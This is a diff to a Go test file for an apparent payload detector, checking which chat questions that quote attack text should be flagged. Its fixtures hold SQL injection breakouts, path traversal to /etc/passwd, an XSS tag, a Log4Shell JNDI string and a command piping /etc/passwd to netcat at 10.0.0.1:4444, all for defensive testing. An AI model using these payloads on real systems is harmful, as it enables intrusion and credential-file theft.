@@ -10,15 +10,22 @@ import (
 	"github.com/warden-dev/warden/abuse"
 )
 
-// Questions a chat's users ask: each holds an attack's text, and each
-// alone in a plain JSON field is a payload finding.
-var chatQuestions = []struct{ name, text string }{
-	{"sql", "Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1"},
-	{"sql union", "Why does ' UNION SELECT username, password FROM users-- work on old PHP sites?"},
-	{"traversal", "What does ../../etc/passwd mean"},
-	{"xss", "Is <script>alert(1)</script> dangerous in a comment box?"},
-	{"log4shell", "Explain ${jndi:ldap://x.example/a} to me"},
-	{"shell", "what does ; cat /etc/passwd | nc 10.0.0.1 4444 do"},
+// Questions a chat's users ask, each holding an attack's text. found
+// says whether the same text alone in a plain JSON text field is a
+// payload finding: there, text is judged by what would break out or run
+// where it lands (see text.go), so a question that mentions a query or a
+// path is not, and one that carries a working breakout is.
+var chatQuestions = []struct {
+	name, text string
+	found      bool
+}{
+	{"sql", "Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1", false},
+	{"sql breakout", "Why does admin' OR '1'='1 log me in?", true},
+	{"sql union", "Is x' UNION SELECT username, password FROM users-- what old PHP sites fell to?", true},
+	{"traversal", "What does ../../etc/passwd mean", false},
+	{"xss", "Is <script>alert(1)</script> dangerous in a comment box?", true},
+	{"log4shell", "Explain ${jndi:ldap://x.example/a} to me", true},
+	{"shell", "; cat /etc/passwd | nc 10.0.0.1 4444 is what I saw in the log", true},
 }
 
 func marshal(t testing.TB, v any) string {
@@ -78,10 +85,11 @@ func chatBodies(t testing.TB, q string) map[string]string {
 func TestChatTextLeftToTheModel(t *testing.T) {
 	d := newTestDetector(t)
 	for _, q := range chatQuestions {
-		// The question alone, in a field that is not chat text, is found.
+		// The question alone, in a field that is not chat text, is
+		// judged as text.
 		plain := marshal(t, map[string]any{"comment": q.text})
-		if v := d.Detect(t.Context(), postTo("POST", "/api/comments", "", "application/json", plain)); !v.Found() {
-			t.Errorf("%s: not found in a plain JSON body %s", q.name, plain)
+		if v := d.Detect(t.Context(), postTo("POST", "/api/comments", "", "application/json", plain)); v.Found() != q.found {
+			t.Errorf("%s: found %v in a plain JSON body %s, want %v", q.name, v.Found(), plain, q.found)
 		}
 		for name, body := range chatBodies(t, q.text) {
 			t.Run(q.name+"/"+name, func(t *testing.T) {
@@ -140,6 +148,9 @@ func TestChatContentInspect(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, q := range chatQuestions {
+		if !q.found {
+			continue // not a finding in any text field
+		}
 		for name, body := range chatBodies(t, q.text) {
 			if v := d.Detect(t.Context(), postTo("POST", "/v1/chat/completions", "", "application/json", body)); !v.Found() {
 				t.Errorf("%s/%s: chat_content inspect found nothing", q.name, name)
@@ -150,7 +161,7 @@ func TestChatContentInspect(t *testing.T) {
 
 func TestLibreChatText(t *testing.T) {
 	d := newTestDetector(t)
-	q := marshal(t, "Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1")
+	q := marshal(t, "Why does admin' OR '1'='1 log me in?")
 	body := `{"text":` + q + `,"sender":"User","isCreatedByUser":true,"parentMessageId":"00000000-0000-0000-0000-000000000000","conversationId":null,"endpoint":"openAI","model":"gpt-4o"}`
 	if v := d.Detect(t.Context(), postTo("POST", "/api/ask/openAI", "message", "application/json", body)); v.Found() {
 		t.Errorf("LibreChat text on a message route reported: %+v", v)
